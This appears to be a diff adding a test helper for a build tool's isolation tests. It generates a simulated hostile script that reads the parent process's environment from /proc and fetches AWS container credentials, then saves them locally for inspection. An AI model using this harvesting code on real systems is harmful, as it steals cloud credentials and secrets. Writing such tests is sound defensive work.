@@ -1,0 +1,68 @@
+import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { setTimeout as sleep } from 'node:timers/promises';
+import * as z from 'zod';
+
+const CredentialsSchema = z
+  .object({ AccessKeyId: z.string(), SecretAccessKey: z.string(), Token: z.string() })
+  .transform(({ AccessKeyId, SecretAccessKey, Token }) => ({
+    accessKeyId: AccessKeyId,
+    secretAccessKey: SecretAccessKey,
+    sessionToken: Token,
+  }));
+
+/** Everything that code in a build can lay its hands on. */
+const LootSchema = z.object({
+  /** Of the engine, and of the build program above it. */
+  own: z.record(z.string(), z.string()),
+  parent: z.record(z.string(), z.string()),
+  /** What the container answers who asks as the SDK does, and what the program's agent answers. */
+  container: CredentialsSchema.nullable(),
+  agent: CredentialsSchema.nullable(),
+});
+export type Loot = z.infer<typeof LootSchema>;
+
+/** Where hostile code leaves what it found; it goes on when the test lets it. */
+export class LootChest {
+  readonly directory = mkdtempSync(join(tmpdir(), 'stagegate-loot-'));
+
+  /** A file for the directory of an environment: takes what it can at this command of the engine, then waits. */
+  attackAt(label: string, command: 'plan' | 'apply'): string {
+    return `import { existsSync, readFileSync, writeFileSync, renameSync } from 'node:fs';
+if (process.argv[2] !== '${command}') process.exit();
+const loot = ${JSON.stringify(join(this.directory, label))};
+const environmentOf = (pid) => Object.fromEntries(readFileSync('/proc/' + pid + '/environ', 'utf8').split('\\0').filter(Boolean).map((line) => [line.slice(0, line.indexOf('=')), line.slice(line.indexOf('=') + 1)]));
+// The engine is the parent; above it is the build program, which has read its variables.
+const above = (pid) => /^PPid:\\t(\\d+)$/m.exec(readFileSync('/proc/' + pid + '/status', 'utf8'))[1];
+const parent = environmentOf(above(process.ppid));
+const ask = async (url, token) => {
+  const response = await fetch(url, { headers: token ? { authorization: token } : {} });
+  return response.ok ? response.json() : null;
+};
+const asked = (variables) => ask(variables.AWS_CONTAINER_CREDENTIALS_FULL_URI, variables.AWS_CONTAINER_AUTHORIZATION_TOKEN).catch(() => null);
+const found = { own: { ...process.env }, parent, container: await asked(parent), agent: await asked(process.env) };
+writeFileSync(loot + '.draft', JSON.stringify(found));
+renameSync(loot + '.draft', loot);
+for (let waited = 0; waited < 3000 && !existsSync(loot + '.done'); waited++) await new Promise((resolve) => setTimeout(resolve, 40));
+`;
+  }
+
+  async open(label: string): Promise<Loot> {
+    const file = join(this.directory, label);
+    for (let waited = 0; waited < 3000; waited++) {
+      if (existsSync(file)) return LootSchema.parse(JSON.parse(readFileSync(file, 'utf8')));
+      await sleep(40);
+    }
+    throw new Error(`no loot of ${label}`);
+  }
+
+  /** Lets the code go on. */
+  close(label: string): void {
+    writeFileSync(join(this.directory, `${label}.done`), '');
+  }
+
+  remove(): void {
+    rmSync(this.directory, { recursive: true, force: true });
+  }
+}
